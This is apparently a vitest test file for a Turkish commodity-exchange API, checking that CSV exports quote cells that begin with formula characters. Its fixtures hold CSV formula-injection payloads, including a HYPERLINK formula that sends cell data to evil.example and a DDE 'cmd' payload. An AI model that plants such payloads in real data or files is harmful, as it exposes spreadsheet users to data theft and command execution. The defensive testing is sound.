import { beforeAll, expect, it } from 'vitest';
import { describeWithApp } from '../../../test/app.js';
import type { TestUser } from '../../../test/auth.js';
import { createMembers, csvText } from '../../../test/csv.js';
import { readCsvDownload } from '../../../test/download.js';
import { signInStaff } from '../../../test/staff.js';
import { CATALOGUE_COLUMNS } from '../../modules/imports/catalogue-row.js';
import {
  importCatalogueFromText,
  importRegistrationsFromText,
} from '../../modules/imports/imports.service.js';
import { REGISTRATION_COLUMNS } from '../../modules/imports/registration-row.js';

// Wednesday 4 March 2026, 10:00 in Istanbul.
const NOW = new Date('2026-03-04T07:00:00.000Z');
const P = '/api/v1/CMS/OnlineKullaniciBulten';

const PRODUCT = '=HYPERLINK("http://evil.example/?x="&A1,"Fiyat")';
const CLASS = '+SUM(1+1)*cmd';
const GROUP = '@SUM(1+1)';
const CITY = "-2+3+cmd|' /C calc'!A0";
const DISTRICT = '@KARATAY';

const CATALOGUE = csvText([
  [...CATALOGUE_COLUMNS.required, ...CATALOGUE_COLUMNS.optional],
  ['G1', GROUP, 'C1', CLASS, 'P1', PRODUCT, 'KG', GROUP, CLASS, PRODUCT],
]);

// A year apart: 1 000 kg at 10 TL, then 1 000 kg at 9.65 TL, so quantity +0 %, amount and average −3.5 %.
const REGISTRATIONS = csvText([
  [...REGISTRATION_COLUMNS.required, 'AliciUyeKodu', 'SaticiUyeKodu', 'Il', 'Ilce'],
  ['T1', '2025-03-03 10:00', 'P1', '1000', '10', 'SALON', 'M1', 'M2', CITY, DISTRICT],
  ['T2', '2026-03-02 10:00', 'P1', '1000', '9.65', 'SALON', 'M1', 'M2', CITY, DISTRICT],
]);

/** The table of a CSV answer (after the lines about it), parsed back the way a spreadsheet would split it. */
function csvRows(body: string, delimiter: ';' | ','): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return readCsvDownload(body, delimiter).table;
}

describeWithApp('CSV exports neutralise formulas', { now: NOW }, (t) => {
  let member: TestUser;
  let admin: TestUser;

  const get = (user: TestUser | null, path: string, lang: 'tr' | 'en') =>
    t.inject(user, { url: `${P}/${path}`, lang });

  beforeAll(async () => {
    expect((await importCatalogueFromText(t.kysely, CATALOGUE)).ok).toBe(true);
    member = await t.signIn('member', { memberCode: 'M1' });
    admin = (await signInStaff(t)).admin;
    await createMembers(t.kysely, ['M2']);
    const imported = await importRegistrationsFromText(t.kysely, REGISTRATIONS, { now: NOW });
    expect(imported).toMatchObject({ ok: true, rows: 2 });
  });

  it.each([
    ['tr', ';', '-3,50', '0,00'],
    ['en', ',', '-3.50', '0.00'],
  ] as const)(
    'public sales report (%s): names get a quote, a negative change stays a number',
    async (lang, delimiter, change, zero) => {
      const res = await get(null, 'GetBorsaSatisRaporu/2026-03-01/2026-03-31?format=csv', lang);
      expect(res.statusCode).toBe(200);
      const rows = csvRows(res.body, delimiter);
      // Level, name, …, amount change %, average change % (the last three columns).
      expect(rows.slice(1, 4).map((r) => r[1])).toEqual([`'${GROUP}`, `'${CLASS}`, `'${PRODUCT}`]);
      const product = rows[3]!;
      expect(product.slice(-3)).toEqual([zero, change, change]);
      expect(res.body).not.toMatch(/[;,]"?=HYPERLINK/);
    },
  );

  it.each([
    ['tr', ';'],
    ['en', ','],
  ] as const)('price archive (%s): the lines naming the product get a quote too', async (lang, delimiter) => {
    const res = await get(null, 'GetOnlineBultenFiyatArsiv/3/2026-03-01/2026-03-31/TUMU?format=csv', lang);
    expect(res.statusCode).toBe(200);
    const { about } = readCsvDownload(res.body, delimiter);
    expect(about.slice(1, 4).map((line) => line[1])).toEqual([`'${GROUP}`, `'${CLASS}`, `'${PRODUCT}`]);
    expect(res.body).not.toMatch(/[;,]"?=HYPERLINK/);
  });

  it.each([
    ['member', 'tr', ';'],
    ['admin', 'en', ','],
  ] as const)(
    '%s registrations CSV (%s): Il, Ilce and product names get a quote',
    async (who, lang, delimiter) => {
      const user = who === 'member' ? member : admin;
      const path =
        who === 'member'
          ? 'GetTesciller/2026-03-01/2026-03-04'
          : `GetAlinanUrunDetay/${member.memberId}/2026-03-02`;
      const res = await get(user, `${path}?format=csv`, lang);
      expect(res.statusCode).toBe(200);
      const [header, row] = csvRows(res.body, delimiter);
      const cell = (name: string) => row![header!.indexOf(name)];
      expect(cell(lang === 'tr' ? 'İl' : 'Province')).toBe(`'${CITY}`);
      expect(cell(lang === 'tr' ? 'İlçe' : 'District')).toBe(`'${DISTRICT}`);
      expect(cell(lang === 'tr' ? 'Ürün' : 'Product')).toBe(`'${PRODUCT}`);
      expect(cell(lang === 'tr' ? 'Birim Fiyat' : 'Unit Price')).toBe(lang === 'tr' ? '9,6500' : '9.6500');
    },
  );
});
